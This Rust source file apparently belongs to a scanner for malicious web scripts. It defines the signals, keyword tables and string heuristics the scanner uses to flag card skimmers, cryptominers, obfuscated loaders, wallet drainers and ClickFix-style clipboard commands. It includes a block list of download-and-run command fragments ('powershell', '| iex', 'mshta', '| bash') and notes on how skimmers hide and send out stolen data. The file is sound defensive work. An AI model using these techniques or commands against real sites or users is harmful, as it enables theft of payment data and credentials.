//! The behaviour vocabulary: which names and strings mean "reads a form", "sends data out",
//! "decodes hidden code" and so on.
//!
//! The normaliser looks every global, member name and string literal up here while it walks
//! the tree, and keeps the bits per function and per statement; the diff lists the names, the
//! classifier turns the bits into features. Keeping the words in one table makes the
//! classifier's reasons explainable: each bit has a [`describe`] line.

/// A set of signals, one bit each.
pub type Signals = u64;

/// Reads form structure: `forms`, `elements`, `serializeArray`, `FormData`, input selectors.
pub const SRC_FORM: Signals = 1 << 0;
/// Reads an element's `.value` (or `checked`, `selectedIndex`).
pub const SRC_VALUE: Signals = 1 << 1;
/// Names a payment-card or credential field (`cardnumber`, `cvv`, `cc_exp`, `password`...).
pub const SRC_CARD: Signals = 1 << 2;
/// Listens to keystrokes or field edits (`keydown`, `keyup`, `input`, `change`, `onkeyup`...).
pub const SRC_KEY: Signals = 1 << 3;
/// Listens to form submission or clicks (`submit`, `onsubmit`, `click`, `mouseup`, `touchend`).
pub const SRC_SUBMIT: Signals = 1 << 4;
/// Reads cookies or web storage.
pub const SRC_STORAGE: Signals = 1 << 5;
/// `XMLHttpRequest` (and its `open`/`send` pair).
pub const SINK_XHR: Signals = 1 << 6;
/// `fetch(...)`.
pub const SINK_FETCH: Signals = 1 << 7;
/// `navigator.sendBeacon(...)`.
pub const SINK_BEACON: Signals = 1 << 8;
/// `new Image()`, whose `src` sends a GET.
pub const SINK_IMAGE: Signals = 1 << 9;
/// `WebSocket`.
pub const SINK_WEBSOCKET: Signals = 1 << 10;
/// Creates or writes a `<script>` / `<iframe>` (`createElement`, `document.write`).
pub const SINK_INJECT: Signals = 1 << 11;
/// Sets a `src` or `action` attribute.
pub const SINK_SRC_ATTR: Signals = 1 << 12;
/// Encodes data for transport: `btoa`, `encodeURIComponent`, `JSON.stringify`, `escape`.
pub const ENCODE: Signals = 1 << 13;
/// Reads where the page is: `location`, `href`, `pathname`.
pub const LOCATION: Signals = 1 << 14;
/// A checkout-like word in a string: `checkout`, `payment`, `onepage`, `billing`.
pub const CHECKOUT_WORD: Signals = 1 << 15;
/// Runs generated code: `eval`, `Function`.
pub const DYN_EVAL: Signals = 1 << 16;
/// Decodes hidden text: `atob`, `String.fromCharCode`, `unescape`.
pub const DECODE: Signals = 1 << 17;
/// A long, high-entropy string literal (packed code or data).
pub const HIGH_ENTROPY: Signals = 1 << 18;
/// Obfuscator-style names (`_0x4f2a`) or many hex escapes.
pub const HEX_NAMES: Signals = 1 << 19;
/// Cryptominer vocabulary: CoinHive, CryptoNight, stratum, miner, hashes per second.
pub const MINER: Signals = 1 << 20;
/// `WebAssembly`.
pub const WASM: Signals = 1 << 21;
/// `Worker`.
pub const WORKER: Signals = 1 << 22;
/// Navigates the page away: `location.replace/assign`, `top.location`, `window.location =`.
pub const REDIRECT: Signals = 1 << 23;
/// Opens windows: `window.open`, `focus`/`blur` pop-under tricks.
pub const POPUP: Signals = 1 << 24;
/// Fingerprints the visitor: `userAgent`, `referrer`, `webdriver`.
pub const VISITOR_CHECK: Signals = 1 << 25;
/// Timers: `setTimeout`, `setInterval`.
pub const TIMER: Signals = 1 << 26;
/// Adds an event listener (`addEventListener`, `attachEvent`, jQuery `on`/`bind`).
pub const LISTENER: Signals = 1 << 27;
/// A hidden frame or element (`display:none`, `visibility:hidden`, zero size).
pub const HIDDEN: Signals = 1 << 28;

/// Looks elements up (`querySelector`, `getElementById`...): every script does; not a data
/// source by itself.
pub const DOM_QUERY: Signals = 1 << 29;

/// Sends a window to the back (`blur()`): with `window.open`, the pop-under trick of hiding
/// the new window behind the page (a share pop-up brings its window to the front instead).
pub const FOCUS_SHIFT: Signals = 1 << 30;
/// Writes web storage (`setItem`): skimmers stage what they read there and send it later.
pub const STORAGE_WRITE: Signals = 1 << 31;
/// Markup of a form that asks for card data (`<input ... placeholder="Card number">`) or a
/// password: a counterfeit payment or sign-in form drawn by the script.
pub const FAKE_FORM: Signals = 1 << 32;

/// Reaches a property or method whose name is decoded at run time (`document[atob("...")]`)
/// or assembled from pieces (`window["ev" + "al"]`): loader stubs hide even the
/// `createElement` they call.
pub const DECODED_NAME: Signals = 1 << 33;
/// Text that hides a URL, behaviour vocabulary or code: a base64 string literal
/// (`"c2NyaXB0"` is `script`), a reversed constant (`r("hctef")`), or code kept in strings
/// that the code around them runs. The hidden text's own signals are recorded as well.
pub const HIDDEN_TEXT: Signals = 1 << 34;
/// Builds a URL whose host is computed at run time (`"https://" + cfg.h`): the destination
/// is no constant a reader (or the baseline's host list) can see.
pub const BUILT_URL: Signals = 1 << 35;

/// A WebRTC peer connection or data channel (`RTCPeerConnection`, `createDataChannel`): a
/// channel to a peer that a Content Security Policy's `connect-src` does not govern (Sansec
/// on a skimmer that loads its code and sends its loot over one, 2021).
pub const SINK_RTC: Signals = 1 << 36;
/// A resource hint (`rel` of `dns-prefetch`, `prefetch`, `preconnect`, `prerender`): the
/// browser looks the host up or fetches it, so a host made of data sends that data.
pub const SINK_HINT: Signals = 1 << 37;
/// Markup that carries script: a `<script>` element with a body or an event-handler
/// attribute (`<svg onload="...">`). The words of that code are recorded as the script's
/// own, since the browser runs them once the markup is written.
pub const MARKUP_CODE: Signals = 1 << 38;
/// Writes the clipboard (`navigator.clipboard.writeText`, `execCommand("copy")`).
pub const CLIPBOARD: Signals = 1 << 39;
/// A command line in a string (`powershell ... | iex`, `mshta https://...`, `cmd /c`): what
/// fake-CAPTCHA pages put on the clipboard for the visitor to run.
pub const SHELL_COMMAND: Signals = 1 << 40;
/// Names a CSS custom property (`"--theme-font"`): text a stylesheet carries and a script can
/// read back with `getComputedStyle`, out of sight of anyone reading the script.
pub const STYLE_TEXT: Signals = 1 << 41;
/// Replaces a network API with its own function (`window.fetch = ...`,
/// `XMLHttpRequest.prototype.send = ...`, `ethereum.request = ...`): the replacement sees, and
/// may rewrite, every request the page makes (skimmers that wrap XHR to read payment API
/// calls; the 2025 npm clipper that swapped wallet addresses in requests).
pub const HOOK: Signals = 1 << 42;
/// Asks a browser wallet to move funds or sign for them: the EIP-1193 methods
/// `eth_sendTransaction`, `eth_signTransaction`, `eth_sign`, `personal_sign`,
/// `eth_signTypedData*`, `wallet_sendCalls`. Dapp libraries do, and so do wallet drainers.
pub const WALLET_SPEND: Signals = 1 << 43;
/// Token call data written into the script: the selector of an ERC-20 or ERC-721
/// `approve`, `transfer`, `transferFrom`, `setApprovalForAll` or `permit` at the start of a
/// string, or a typed-data `Permit`. Libraries encode such calls from an ABI; drainers
/// (Angel and Inferno Drainer, the 2023 Ledger Connect Kit) and clippers write them out.
pub const TOKEN_CALL: Signals = 1 << 44;
/// A crypto-wallet address in the script: an Ethereum address as a string (`0x` and 40 hex
/// digits, or the 40 digits alone), or a regular expression that finds wallet addresses
/// (`0x[a-fA-F0-9]{40}`, `bc1...`), as clippers that swap them in pages and responses use.
pub const WALLET_ADDRESS: Signals = 1 << 45;
/// Replaces an object's `request` method with its own function (`provider.request = ...`):
/// on a wallet provider that is a hook on every request the dapp makes (wallet libraries
/// wrap their own providers too).
pub const REQUEST_HOOK: Signals = 1 << 46;

/// Every network sink.
pub const SINKS: Signals = SINK_XHR
    | SINK_FETCH
    | SINK_BEACON
    | SINK_IMAGE
    | SINK_WEBSOCKET
    | SINK_INJECT
    | SINK_RTC
    | SINK_HINT;
/// Every data source a skimmer reads.
pub const SOURCES: Signals = SRC_FORM | SRC_VALUE | SRC_CARD | SRC_KEY | SRC_SUBMIT;

/// One line per signal, for reasons and docs.
pub fn describe(bit: Signals) -> &'static str {
    match bit {
        SRC_FORM => "reads form elements",
        SRC_VALUE => "reads field values",
        SRC_CARD => "names payment-card or credential fields",
        SRC_KEY => "listens to keystrokes or field edits",
        SRC_SUBMIT => "listens to form submission or clicks",
        SRC_STORAGE => "reads cookies or web storage",
        SINK_XHR => "sends with XMLHttpRequest",
        SINK_FETCH => "sends with fetch",
        SINK_BEACON => "sends with navigator.sendBeacon",
        SINK_IMAGE => "sends through an image request",
        SINK_WEBSOCKET => "opens a WebSocket",
        SINK_INJECT => "injects a script or frame",
        SINK_SRC_ATTR => "sets a src or action attribute",
        ENCODE => "encodes data for transport",
        LOCATION => "reads the page location",
        CHECKOUT_WORD => "mentions checkout or payment pages",
        DYN_EVAL => "runs generated code (eval/Function)",
        DECODE => "decodes hidden text (atob/fromCharCode/unescape)",
        HIGH_ENTROPY => "carries a long high-entropy string",
        HEX_NAMES => "uses obfuscator-style names or hex escapes",
        MINER => "uses cryptominer vocabulary",
        WASM => "uses WebAssembly",
        WORKER => "starts workers",
        REDIRECT => "navigates the page away",
        POPUP => "opens windows",
        VISITOR_CHECK => "checks the visitor's user agent or referrer",
        TIMER => "uses timers",
        LISTENER => "adds event listeners",
        HIDDEN => "hides elements",
        DOM_QUERY => "looks elements up",
        FOCUS_SHIFT => "sends a window to the back",
        STORAGE_WRITE => "writes web storage",
        FAKE_FORM => "draws a form that asks for card data or a password",
        DECODED_NAME => "calls a method whose name is decoded or assembled at run time",
        HIDDEN_TEXT => "hides a URL or code words (base64, reversed strings, code kept in strings)",
        BUILT_URL => "builds a destination host at run time",
        SINK_RTC => "opens a WebRTC peer connection or data channel",
        SINK_HINT => "adds a prefetch or DNS-prefetch hint",
        MARKUP_CODE => "writes markup that carries script",
        CLIPBOARD => "writes the clipboard",
        SHELL_COMMAND => "carries a command line",
        STYLE_TEXT => "names a CSS custom property",
        HOOK => "replaces a network API (fetch, XMLHttpRequest, a wallet's request) with its own function",
        WALLET_SPEND => "asks a browser wallet to send a transaction or sign",
        TOKEN_CALL => "writes token approval, transfer or permit call data",
        WALLET_ADDRESS => "carries a crypto-wallet address or a pattern that finds them",
        REQUEST_HOOK => "replaces an object's request method with its own function",
        _ => "unknown signal",
    }
}

/// Signals of a global or member name (case-sensitive, as JavaScript is).
pub fn name_signals(name: &str) -> Signals {
    let by_name = match name {
        "forms" | "elements" | "FormData" | "serializeArray" | "serialize" => SRC_FORM,
        "querySelector"
        | "querySelectorAll"
        | "getElementById"
        | "getElementsByTagName"
        | "getElementsByName"
        | "getElementsByClassName" => DOM_QUERY,
        "value" | "checked" | "selectedIndex" => SRC_VALUE,
        "onkeyup" | "onkeydown" | "onkeypress" | "oninput" | "onchange" | "onblur" => SRC_KEY,
        "onsubmit" | "onclick" | "onmouseup" | "submit" => SRC_SUBMIT,
        "cookie" | "localStorage" | "sessionStorage" => SRC_STORAGE,
        // jQuery's `ajax`/`post` are XMLHttpRequest underneath.
        "XMLHttpRequest" | "ActiveXObject" | "setRequestHeader" | "ajax" | "post" => SINK_XHR,
        "fetch" => SINK_FETCH,
        "sendBeacon" => SINK_BEACON,
        "Image" => SINK_IMAGE,
        "WebSocket" => SINK_WEBSOCKET,
        "createElement" | "write" | "writeln" | "insertAdjacentHTML" => SINK_INJECT,
        "src" | "action" => SINK_SRC_ATTR,
        "btoa" | "encodeURIComponent" | "encodeURI" | "escape" | "stringify" => ENCODE,
        "location" | "href" | "pathname" => LOCATION,
        "eval" | "Function" | "execScript" => DYN_EVAL,
        "atob" | "fromCharCode" | "unescape" => DECODE,
        // `Anonymous` is the constructor every hosted miner's client library exposes
        // (`CoinHive.Anonymous`, `CRLT.Anonymous`, `Client.Anonymous`) for mining
        // without an account.
        "CoinHive" | "CryptoLoot" | "CRLT" | "Anonymous" => MINER,
        "RTCPeerConnection" | "webkitRTCPeerConnection" | "createDataChannel" => SINK_RTC,
        "writeText" | "execCommand" | "clipboardData" => CLIPBOARD,
        "WebAssembly" => WASM,
        "Worker" | "SharedWorker" => WORKER,
        "userAgent" | "referrer" | "webdriver" => VISITOR_CHECK,
        "setTimeout" | "setInterval" => TIMER,
        "addEventListener" | "attachEvent" | "bind" => LISTENER,
        "blur" => FOCUS_SHIFT,
        "setItem" => STORAGE_WRITE,
        _ => 0,
    };
    by_name | word_signals(name)
}

/// Signals of a string literal's value.
pub fn string_signals(value: &str) -> Signals {
    let mut s = 0;
    // Event lists such as jQuery's "mouseup touchend".
    if value.len() <= 64 && value.contains(' ') {
        for word in value.split_ascii_whitespace() {
            s |= event_signals(word);
        }
    }
    s |= event_signals(value);
    s |= match value {
        "input, select"
        | "input,select"
        | "input, select, textarea"
        | "form"
        | "select"
        | "textarea"
        | "input[type=text]"
        // `tagName`/`nodeName` comparisons: code that deals with whichever field fired an
        // event (`e.target.tagName === "INPUT"`) reads every field.
        | "INPUT"
        | "SELECT"
        | "TEXTAREA" => SRC_FORM,
        "script" | "iframe" => SINK_INJECT,
        // An `<img>` made by the script requests its `src`, as `new Image()` does.
        "img" => SINK_IMAGE,
        "display:none" | "none" | "hidden" => HIDDEN,
        "dns-prefetch" | "prefetch" | "preconnect" | "prerender" => SINK_HINT,
        _ => 0,
    };
    if is_custom_property(value) {
        s |= STYLE_TEXT;
    }
    s |= wallet_signals(value);
    s |= command_signals(value);
    if value.len() <= WORD_SCAN_MAX {
        s |= word_signals(value);
        // A credential field is named in a selector or a field name; a `password`
        // property of the script's own objects (an HTTP client's option) is not one.
        if contains_ignore_ascii_case(value, "password") {
            s |= SRC_CARD;
        }
        // A selector for every field (`input, select`, `input:not([type=hidden])`), not
        // for one named field (`input[name=q]`, `#email`).
        let broad = ["input", "select", "textarea", "form"]
            .iter()
            .any(|t| value.starts_with(t))
            && !value.contains("name=")
            && !value.contains('#');
        if broad {
            s |= SRC_FORM;
        }
    }
    if is_fake_form(value) {
        s |= FAKE_FORM;
    }
    if is_high_entropy(value) {
        s |= HIGH_ENTROPY;
    }
    // Most strings have no `+`; a byte scan says so cheaper than a substring search starts.
    if value.as_bytes().contains(&b'+') && value.contains("stratum+") {
        s |= MINER;
    }
    s
}

/// Selectors (the first four bytes of call data, in hex) of the token calls that move or
/// allow moving funds: ERC-20 `approve`, `transfer`, `transferFrom`, ERC-721
/// `setApprovalForAll`, EIP-2612 `permit`.
const TOKEN_SELECTORS: [&str; 5] = ["095ea7b3", "a9059cbb", "23b872dd", "a22cb465", "d505accf"];

/// [`WALLET_SPEND`], [`TOKEN_CALL`] and [`WALLET_ADDRESS`] of a string literal.
fn wallet_signals(value: &str) -> Signals {
    let mut s = match value {
        "eth_sendTransaction"
        | "eth_signTransaction"
        | "eth_sign"
        | "personal_sign"
        | "eth_signTypedData"
        | "eth_signTypedData_v3"
        | "eth_signTypedData_v4"
        | "wallet_sendCalls" => WALLET_SPEND,
        "Permit" => TOKEN_CALL,
        _ => 0,
    };
    let hex = value.strip_prefix("0x").unwrap_or(value);
    if value.len() >= 10 && hex.len() + 2 == value.len() {
        if let Some(selector) = hex.get(..8) {
            if TOKEN_SELECTORS
                .iter()
                .any(|t| t.eq_ignore_ascii_case(selector))
            {
                s |= TOKEN_CALL;
            }
        }
    }
    if hex.len() == 40 && hex.bytes().all(|b| b.is_ascii_hexdigit()) {
        s |= WALLET_ADDRESS;
    }
    s
}

/// Signals of a regular expression's pattern that its words do not carry: a pattern that
/// finds crypto-wallet addresses ([`WALLET_ADDRESS`]).
pub fn regex_signals(pattern: &str) -> Signals {
    let hex_run = pattern.contains("{40}") && (pattern.contains("a-f") || pattern.contains("A-F"));
    let bitcoin = pattern.contains("bc1") || pattern.contains("[13][a-km-zA-HJ-NP-Z1-9]");
    if hex_run || bitcoin {
        WALLET_ADDRESS
    } else {
        0
    }
}

/// Shortest and longest base64 literal decoded to look for hidden text.
const HIDDEN_MIN_LEN: usize = 8;
const HIDDEN_MAX_LEN: usize = 2048;

/// The text a base64 string literal hides, when it is one and decodes to printable ASCII
/// (a URL, a method or tag name); `None` for other strings and for binary data (images,
/// fonts).
pub fn hidden_text(value: &str) -> Option<String> {
    use base64::Engine as _;
    let len = value.len();
    if !(HIDDEN_MIN_LEN..=HIDDEN_MAX_LEN).contains(&len)
        || !len.is_multiple_of(4)
        || !value
            .bytes()
            .all(|b| b.is_ascii_alphanumeric() || b == b'+' || b == b'/' || b == b'=')
    {
        return None;
    }
    let bytes = base64::engine::general_purpose::STANDARD
        .decode(value)
        .ok()?;
    let printable = bytes
        .iter()
        .all(|&b| (0x20..0x7f).contains(&b) || b == b'\n' || b == b'\t');
    (printable && bytes.len() >= 4)
        .then(|| String::from_utf8(bytes).ok())
        .flatten()
}

/// The signals of the text a string literal hides, [`HIDDEN_TEXT`] or [`MARKUP_CODE`]
/// included, and the host of a URL in it; `(0, None)` when it hides nothing the vocabulary
/// knows. Two kinds of string hide text: a base64 literal (its decoded text, read as code
/// when it is code), and markup that carries script (the script's words and the attribute
/// values it may read, which may be base64 themselves).
pub fn hidden_signals(value: &str) -> (Signals, Option<String>) {
    hidden_signals_within(value, HIDDEN_DEPTH)
}

/// How many layers of hiding (base64 in markup in base64...) are looked through.
const HIDDEN_DEPTH: u8 = 2;

fn hidden_signals_within(value: &str, depth: u8) -> (Signals, Option<String>) {
    let code = markup_code(value);
    if !code.is_empty() {
        let (mut s, mut host) = (MARKUP_CODE, None);
        for piece in code {
            let (words, words_host) = code_signals(piece, depth);
            s |= words;
            host = host.or(words_host);
            if depth > 0 {
                // An attribute value may itself be base64 the handler decodes.
                let (hidden, hidden_host) = hidden_signals_within(piece, depth - 1);
                s |= hidden;
                host = host.or(hidden_host);
            }
        }
        return (s, host);
    }
    let Some(text) = hidden_text(value) else {
        return (0, None);
    };
    let mut s = string_signals(&text);
    if text
        .bytes()
        .all(|b| b.is_ascii_alphanumeric() || b == b'_' || b == b'$')
    {
        s |= name_signals(&text);
    }
    let mut host = url_host(&text);
    if depth > 0 && text.contains('(') {
        // Decoded code: its words, its strings, and the first URL it names.
        let (code, code_host) = code_signals(&text, depth - 1);
        s |= code;
        host = host.or(code_host);
    }
    if s == 0 && host.is_none() {
        return (0, None);
    }
    (s | HIDDEN_TEXT, host)
}

/// Longest markup searched for script.
const MARKUP_SCAN_MAX: usize = 16384;

/// The code a piece of markup carries, when it carries any: the bodies of its `<script>`
/// elements, the values of its event-handler attributes (`onload="..."`), and, since that
/// code may read the element's other attributes (`this.getAttribute("data-x")`), every
/// quoted attribute value beside them. Empty for markup without script (templates, icons)
/// and for every string without a `<`.
fn markup_code(value: &str) -> Vec<&str> {
    let mut code = Vec::new();
    if value.len() > MARKUP_SCAN_MAX || !value.contains('<') {
        return code;
    }
    let lower = value.to_ascii_lowercase();
    let mut from = 0;
    while let Some(i) = lower[from..].find("<script") {
        let open = from + i;
        let Some(gt) = lower[open..].find('>') else {
            break;
        };
        let body = open + gt + 1;
        let end = lower[body..]
            .find("</script")
            .map_or(lower.len(), |e| body + e);
        let script = value[body..end].trim();
        if !script.is_empty() {
            code.push(script);
        }
        from = end;
    }
    let mut handler = false;
    let bytes = lower.as_bytes();
    for (i, w) in bytes.windows(3).enumerate() {
        // ` on<letters>=`: an event-handler attribute.
        if !(w[0].is_ascii_whitespace() && w[1] == b'o' && w[2] == b'n') {
            continue;
        }
        let name_end = bytes[i + 3..]
            .iter()
            .position(|b| !b.is_ascii_lowercase())
            .map_or(bytes.len(), |p| i + 3 + p);
        if name_end > i + 3 && bytes.get(name_end) == Some(&b'=') {
            handler = true;
            break;
        }
    }
    if handler {
        code.extend(quoted_pieces(value).into_iter().filter(|q| !q.is_empty()));
    }
    code
}

/// The pieces of `text` between matching single or double quotes, outermost first.
fn quoted_pieces(text: &str) -> Vec<&str> {
    let mut out = Vec::new();
    let mut rest = text;
    while let Some(i) = rest.find(['"', '\'']) {
        let quote = rest.as_bytes()[i] as char;
        let after = &rest[i + 1..];
        let Some(j) = after.find(quote) else {
            break;
        };
        out.push(&after[..j]);
        rest = &after[j + 1..];
    }
    out
}

/// Shortest and longest string literal read as code when it looks like code.
const CODE_TEXT_MIN: usize = 12;
const CODE_TEXT_MAX: usize = 64 * 1024;

/// Whether a string looks like JavaScript: a call (a name right before `(`) and a statement
/// or block mark (`;`, `{`, `}`). Error messages and prose rarely have both.
fn looks_like_code(value: &str) -> bool {
    let b = value.as_bytes();
    (CODE_TEXT_MIN..=CODE_TEXT_MAX).contains(&b.len())
        && memchr::memchr3(b';', b'{', b'}', b).is_some()
        && memchr::memchr_iter(b'(', b).any(|i| {
            i > 0 && (b[i - 1].is_ascii_alphanumeric() || b[i - 1] == b'_' || b[i - 1] == b'$')
        })
}

/// The signals of a string literal that looks like code, read as [`code_signals`] reads
/// decoded code, with [`HIDDEN_TEXT`], and the first URL host it names; `None` for other
/// strings and for code that names nothing the vocabulary knows. Loaders keep code in
/// strings (`String.raw` template pieces, lines joined into a worker's `Blob`) and run
/// them with `Function` or a worker; the normaliser counts these signals only where the
/// code that holds the strings also runs code.
pub fn code_text_signals(value: &str) -> Option<(Signals, Option<String>)> {
    if !looks_like_code(value) {
        return None;
    }
    let (s, host) = code_signals(value, HIDDEN_DEPTH);
    (s != 0 || host.is_some()).then_some((s | HIDDEN_TEXT, host))
}

/// `code` with the joints of split string literals closed: `"fe"+"tch"` (also with
/// spaces, or single quotes) becomes `"fetch"`, so that names and URLs assembled from
/// pieces inside code kept as text read as they run.
fn close_joints(code: &str) -> std::borrow::Cow<'_, str> {
    if !code.contains('+') {
        return code.into();
    }
    let b = code.as_bytes();
    let mut out = Vec::with_capacity(b.len());
    let mut i = 0;
    while i < b.len() {
        let q = b[i];
        if q == b'"' || q == b'\'' {
            // A closing quote, `+` between optional spaces, and the same opening quote.
            let mut j = i + 1;
            while b.get(j) == Some(&b' ') {
                j += 1;
            }
            if b.get(j) == Some(&b'+') {
                j += 1;
                while b.get(j) == Some(&b' ') {
                    j += 1;
                }
                if b.get(j) == Some(&q) {
                    i = j + 1;
                    continue;
                }
            }
        }
        out.push(q);
        i += 1;
    }
    // Only ASCII quotes, spaces and `+` were removed: still UTF-8.
    String::from_utf8(out).map_or(code.into(), Into::into)
}

/// The signals of code found as text (in markup, decoded from base64, or kept in strings),
/// read by its words as the lexical fallback reads a script that does not parse (names,
/// event names, and the card, checkout and miner vocabulary), with its quoted strings looked
/// through for hidden text (`depth` more layers), and the first URL host it names.
fn code_signals(code: &str, depth: u8) -> (Signals, Option<String>) {
    let code = close_joints(code);
    let code = code.as_ref();
    let mut s = 0;
    for word in code.split(|c: char| !(c.is_ascii_alphanumeric() || c == '_' || c == '$')) {
        if !word.is_empty() {
            s |= name_signals(word) | event_signals(word);
        }
    }
    let mut host = None;
    for quoted in quoted_pieces(code) {
        s |= string_signals(quoted);
        host = host.or_else(|| url_host(quoted));
        if depth > 0 {
            let (hidden, hidden_host) = hidden_signals_within(quoted, depth - 1);
            s |= hidden;
            host = host.or(hidden_host);
        }
    }
    (s, host)
}

/// Whether a string is a bare URL scheme that code completes with a computed host.
pub fn is_bare_scheme(value: &str) -> bool {
    // `"//" + host` is a protocol-relative URL: the page's own scheme, a computed host.
    matches!(value, "https://" | "http://" | "wss://" | "ws://" | "//")
}

/// Longest name or string searched for vocabulary words: field names, selectors and URLs
/// are short; longer strings are text or markup.
const WORD_SCAN_MAX: usize = 128;

/// Event names a skimmer listens to.
fn event_signals(word: &str) -> Signals {
    match word {
        "submit" | "click" | "mouseup" | "mousedown" | "touchend" => SRC_SUBMIT,
        "keydown" | "keyup" | "keypress" | "input" | "change" | "blur" | "paste" => SRC_KEY,
        _ => 0,
    }
}

/// Vocabulary that matters in any name or short string, matched case-insensitively on
/// word parts: card fields, checkout words, miner words.
fn word_signals(text: &str) -> Signals {
    if text.len() > WORD_SCAN_MAX {
        return 0;
    }
    const CARD: &[&str] = &[
        "cardnumber",
        "card_number",
        "card-number",
        "cc_number",
        "ccnumber",
        "cc-number",
        "cc_num",
        "ccnum",
        "cvv",
        "cvc",
        "cc_cid",
        "securitycode",
        "security_code",
        "card_exp",
        "cc_exp",
        "expiry",
        "expmonth",
        "exp_month",
        "expyear",
        "exp_year",
        "cardholder",
        "creditcard",
        "credit_card",
    ];
    const CHECKOUT: &[&str] = &["checkout", "payment", "onepage", "billing"];
    const MINING: &[&str] = &[
        "coinhive",
        "cryptonight",
        "cryptoloot",
        "coin-hive",
        "hashespersecond",
        "minero",
        "webminer",
        "stratum",
    ];
    const WORDS: Vocabulary<{ CARD.len() + CHECKOUT.len() + MINING.len() }> =
        vocabulary(&[(CARD, SRC_CARD), (CHECKOUT, CHECKOUT_WORD), (MINING, MINER)]);
    scan_words(text, &WORDS)
}

/// The bits of the lists with a word somewhere in `text`, ignoring ASCII case.
fn scan_words<const N: usize>(text: &str, vocabulary: &Vocabulary<N>) -> Signals {
    let all = vocabulary.words.iter().fold(0, |a, w| a | w.2);
    let mut s = 0;
    let bytes = text.as_bytes();
    for (i, pair) in bytes.windows(2).enumerate() {
        let key =
            u16::from(pair[0].to_ascii_lowercase()) << 8 | u16::from(pair[1].to_ascii_lowercase());
        let key_bit = usize::from(key);
        if vocabulary.starts[key_bit >> 6] & (1 << (key_bit & 63)) == 0 {
            continue;
        }
        // Only the words that start with these two bytes are compared.
        let rest = &bytes[i..];
        let first = vocabulary.words.partition_point(|w| w.0 < key);
        for &(start, word, bit) in &vocabulary.words[first..] {
            if start != key {
                break;
            }
            if s & bit == 0
                && rest
                    .get(..word.len())
                    .is_some_and(|r| r.eq_ignore_ascii_case(word.as_bytes()))
            {
                s |= bit;
            }
        }
        if s == all {
            break;
        }
    }
    s
}

/// `N` words to find in text, with the bit of the list each comes from.
struct Vocabulary<const N: usize> {
    /// The first two bytes of every word, as a set of 65 536 bits.
    starts: [u64; 1024],
    /// Every word: its first two bytes (as a big-endian number), the word, its list's bit;
    /// sorted by the first.
    words: [(u16, &'static str, Signals); N],
}

/// The [`Vocabulary`] of the lists, which have `N` words in all. Fails to compile if they
/// have another number, or a word is shorter than two bytes or not lower-case ASCII (the
/// matching in [`scan_words`] relies on both: a word then occurs in the lower-cased text
/// exactly where it matches the text ignoring ASCII case, and only where the text has two
/// bytes some word starts with).
const fn vocabulary<const N: usize>(lists: &[(&[&'static str], Signals)]) -> Vocabulary<N> {
    let mut starts = [0u64; 1024];
    let mut words: [(u16, &'static str, Signals); N] = [(0, "", 0); N];
    let mut n = 0;
    let mut i = 0;
    while i < lists.len() {
        let mut j = 0;
        while j < lists[i].0.len() {
            let word = lists[i].0[j];
            let w = word.as_bytes();
            assert!(w.len() >= 2, "vocabulary words have two bytes or more");
            let mut k = 0;
            while k < w.len() {
                assert!(
                    w[k].is_ascii() && !w[k].is_ascii_uppercase(),
                    "vocabulary words are lower-case ASCII"
                );
                k += 1;
            }
            let key = (w[0] as u16) << 8 | w[1] as u16;
            starts[(key >> 6) as usize] |= 1 << (key & 63);
            assert!(n < N, "more words than the vocabulary's size");
            // Insertion sort by the first two bytes (a few dozen words, at compile time).
            let mut at = n;
            while at > 0 && words[at - 1].0 > key {
                words[at] = words[at - 1];
                at -= 1;
            }
            words[at] = (key, word, lists[i].1);
            n += 1;
            j += 1;
        }
        i += 1;
    }
    assert!(n == N, "fewer words than the vocabulary's size");
    Vocabulary { starts, words }
}

/// Whether a string names a CSS custom property (`--theme-font-src`).
fn is_custom_property(value: &str) -> bool {
    value.len() > 2
        && value.len() <= WORD_SCAN_MAX
        && value.starts_with("--")
        && value[2..]
            .bytes()
            .all(|b| b.is_ascii_alphanumeric() || b == b'-' || b == b'_')
}

/// Longest string searched for a command line.
const COMMAND_SCAN_MAX: usize = 2048;

/// [`SHELL_COMMAND`] for a string with the vocabulary of a command line that downloads and
/// runs something (Proofpoint and Sucuri on ClickFix: PowerShell with `iex`/`iwr`, `mshta`
/// with a URL, `cmd /c`, `rundll32`, `certutil`, `curl ... | bash`). No library puts these
/// in a string.
fn command_signals(text: &str) -> Signals {
    const COMMAND: &[&str] = &[
        "powershell",
        "pwsh ",
        "mshta ",
        "mshta.exe",
        "cmd /c",
        "cmd.exe",
        "rundll32",
        "certutil",
        "bitsadmin",
        "invoke-expression",
        "invoke-webrequest",
        "| iex",
        "|iex",
        "| bash",
        "start-process",
    ];
    const WORDS: Vocabulary<{ COMMAND.len() }> = vocabulary(&[(COMMAND, SHELL_COMMAND)]);
    if text.len() < 6 || text.len() > COMMAND_SCAN_MAX {
        return 0;
    }
    scan_words(text, &WORDS)
}

/// Longest markup searched for a counterfeit card form.
const FORM_SCAN_MAX: usize = 8192;

/// Markup with input fields that ask for card data: the fake payment forms and frames that
/// skimmers draw over a checkout page (Malwarebytes and Sucuri describe them).
fn is_fake_form(value: &str) -> bool {
    // Markup has a `<`; most strings have none and need no lower-cased copy.
    if value.len() > FORM_SCAN_MAX || !value.contains('<') {
        return false;
    }
    let lower = value.to_ascii_lowercase();
    const WORDS: &[&str] = &[
        "card number",
        "cardnumber",
        "card_number",
        "cvv",
        "cvc",
        "security code",
        "expiry",
        "expiration",
        "mm/yy",
        // `autocomplete` tokens of card fields.
        "cc-number",
        "cc-csc",
        "cc-exp",
    ];
    let password = ["type=\"password\"", "type='password'", "type=password"]
        .iter()
        .any(|t| lower.contains(t));
    lower.contains("<input")
        && (password || WORDS.iter().filter(|w| lower.contains(*w)).count() >= 2)
}

/// Whether `text` contains `word` (lower-case ASCII) ignoring ASCII case, as its lower-cased
/// copy would, without making the copy.
fn contains_ignore_ascii_case(text: &str, word: &str) -> bool {
    // Only where the first byte matches is the rest compared: most strings have few.
    let Some((&first, rest)) = word.as_bytes().split_first() else {
        return true;
    };
    text.as_bytes()
        .windows(word.len())
        .any(|w| w[0].to_ascii_lowercase() == first && w[1..].eq_ignore_ascii_case(rest))
}

/// Shannon entropy of a string's bytes, in bits per byte.
pub fn entropy(value: &str) -> f64 {
    let mut counts = [0u32; 256];
    for b in value.bytes() {
        counts[usize::from(b)] += 1;
    }
    let n = value.len() as f64;
    counts
        .iter()
        .filter(|&&c| c > 0)
        .map(|&c| {
            let p = f64::from(c) / n;
            -p * p.log2()
        })
        .sum()
}

/// Strings this long and this random are packed code or data, not text a page shows.
const HIGH_ENTROPY_MIN_LEN: usize = 120;
